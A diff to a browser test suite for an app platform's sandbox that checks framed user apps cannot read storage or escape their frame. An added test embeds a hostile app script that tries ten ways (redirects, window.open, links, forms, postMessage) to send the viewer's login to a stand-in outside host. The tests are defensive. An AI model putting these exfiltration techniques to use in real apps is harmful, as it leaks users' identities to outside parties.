@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, expect, test } from "bun:test";
 import { eventually } from "../harness.ts";
 import { navigator, spy, thief } from "./app-attacks.ts";
-import { reportOf, startStage, user, type Stage } from "./apps-fixture.ts";
+import { frameOf, reportOf, startStage, user, type Stage } from "./apps-fixture.ts";
 
 let stage: Stage;
 let author: string;
@@ -23,12 +23,13 @@ test.each(kinds)("an ordinary user's app (%s), opened by the administrator, gets
   const other = await stage.make({ name: "Other", public: false });
   const source_code = as(`const OTHER_APP = "${other.id}";\n${thief}`);
   const { path } = await stage.make({ name: "Thief", public: false, db_code: "guests", source_code }, author);
-  const { page } = await stage.open(await stage.visit("admin"), path);
-  const report = await reportOf(page);
+  const { page, frame } = await stage.open(await stage.visit("admin"), path);
+  const report = await reportOf(frame);
   expect(report).toEqual({
-    cookie: "refused: SecurityError",
-    localStorage: "refused: SecurityError",
-    sessionStorage: "refused: SecurityError",
+    // Their own, which the page keeps for them.
+    cookie: "",
+    localStorage: "0",
+    sessionStorage: "0",
     indexedDB: "refused: SecurityError",
     serviceWorker: expect.stringMatching(/^refused/),
     // Without a credential that opens it, the answer cannot even be read.
@@ -70,7 +71,7 @@ test.each(kinds)("an app (%s) that spies on every function it can reach does not
     if (answer.url().endsWith("/token.json") && answer.status() === 200) renewed += 1;
   });
   await page.goto(stage.app.origin + path);
-  const report = await reportOf(page);
+  const report = await reportOf(await frameOf(page));
   expect(report).toEqual({
     control: "true",
     storage: "1",
@@ -99,6 +100,102 @@ test("in a frame, an app cannot take the window around it", async () => {
   await Bun.sleep(500);
   expect(page.url()).toBe(`${stage.app.origin}/around`);
   expect(await page.title()).toBe("around");
+});
+
+/** A private app, as its viewer would come upon it; `#out` says who looks. */
+const leaving = `<p id="out"></p><script>
+out.textContent = CoreAppContext.user.login;
+const to = (how) => "ELSEWHERE/" + how + "?stolen=" + CoreAppContext.user.login;
+window.ways = {
+  location: () => { location = to("location"); },
+  replace: () => location.replace(to("replace")),
+  refresh: () => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + to("refresh") })); },
+  open: () => { open(to("open")); },
+  link: () => Object.assign(document.createElement("a"), { href: to("link") }).click(),
+  "new window": () => Object.assign(document.createElement("a"), { href: to("window"), target: "_blank" }).click(),
+  "top window": () => Object.assign(document.createElement("a"), { href: to("top"), target: "_top" }).click(),
+  download: () => Object.assign(document.createElement("a"), { href: to("download"), download: "x" }).click(),
+  form: () => { const form = Object.assign(document.createElement("form"), { action: to("form") }); document.body.append(form); form.submit(); },
+  "asking the page around": () => { for (const address of [to("asked"), to("asked").replace("http:", ""), "/account/me.json", "/a/x/../../login"]) parent.postMessage({ type: "core:go", address }, "*"); },
+};
+</script>`;
+
+test("a private app leads neither itself nor a new window to another host; a public one may", async () => {
+  const reached: string[] = [];
+  const elsewhere = Bun.serve({
+    port: 0,
+    hostname: "127.0.0.1",
+    fetch: ({ url }) => {
+      reached.push(new URL(url).pathname.slice(1));
+      return new Response("taken");
+    },
+  });
+  const source_code = leaving.replaceAll("ELSEWHERE", elsewhere.url.origin);
+  const app = { app_engine: "html", source_code };
+  const [hidden, open] = [
+    await stage.make({ ...app, name: "Leaving", public: false }, author),
+    await stage.make({ ...app, name: "Open", public: true }, author),
+  ];
+  const context = await stage.visit("admin");
+  const { page, frame } = await stage.open(context, hidden.path);
+  const ways = await frame.evaluate(() => Object.keys((window as unknown as { ways: object }).ways));
+  expect(ways).toHaveLength(10);
+  for (const way of ways) {
+    await page.goto(stage.app.origin + hidden.path);
+    const inside = await frameOf(page);
+    expect(await inside.locator("#out").textContent()).toBe("admin");
+    const run = (name: string) => (window as unknown as { ways: Record<string, () => void> }).ways[name]?.();
+    await inside.evaluate(run, way).catch(() => {});
+    await page.waitForTimeout(300);
+    expect([way, reached, new URL(page.url()).pathname, context.pages().length]).toEqual([way, [], hidden.path, 1]);
+  }
+  const control = await stage.open(context, open.path);
+  await control.page.evaluate(() => (window as unknown as { ways: { location(): void } }).ways.location());
+  await eventually(() => reached.includes("location"), "the public app at the other host");
+  await elsewhere.stop(true);
+});
+
+test("the page around a private app has its title and fragment, and follows links and forms to apps", async () => {
+  const source_code = `<title>Mine</title><h1></h1><a id="more" href="?page=2#end">more</a>
+<form><input name="q" value="tea"></form><script>
+document.querySelector("h1").textContent = location.search + location.hash + " " + CoreAppContext.user.login;
+onhashchange = () => { document.title = "at " + location.hash; };</script>`;
+  const { path } = await stage.make({ name: "Framed app", app_engine: "html", public: false, source_code });
+  const other = await stage.make({ name: "Next", app_engine: "html", public: false, source_code: "<h1>Next</h1>" });
+  const { page, frame } = await stage.open(await stage.visit("admin"), `${path}?page=1#start`);
+  // The page around puts its frame in anew for another page.
+  const shown = (text: string) => page.frameLocator("iframe").locator("h1", { hasText: text }).waitFor();
+  expect(await frame.locator("h1").textContent()).toBe("?page=1#start admin");
+  await page.waitForFunction(() => document.title === "Mine");
+  await frame.evaluate(() => {
+    location.hash = "middle";
+  });
+  await page.waitForFunction(() => document.title === "at #middle" && location.hash === "#middle");
+  await frame.locator("#more").click();
+  await shown("?page=2#end admin");
+  expect(page.url()).toBe(`${stage.app.origin}${path}?page=2#end`);
+  await (await frameOf(page)).evaluate(() => document.querySelector("form")?.requestSubmit());
+  await shown("?q=tea#end admin");
+  await page.goBack();
+  await shown("?page=2#end admin");
+  // By its own script, for which no browser sends the session.
+  await (
+    await frameOf(page)
+  ).evaluate(() => {
+    location.search = "?by=script";
+  });
+  await shown("?by=script#end admin");
+  await page.reload();
+  await shown("?by=script#end admin");
+  const inside = await frameOf(page);
+  await inside.evaluate((address) => {
+    document.body.append(
+      Object.assign(document.createElement("a"), { href: address, id: "next", textContent: "next" }),
+    );
+  }, other.path);
+  await inside.locator("#next").click();
+  await shown("Next");
+  expect(new URL(page.url()).pathname).toBe(path);
 });
 
 test("no other site can frame an app's page", async () => {
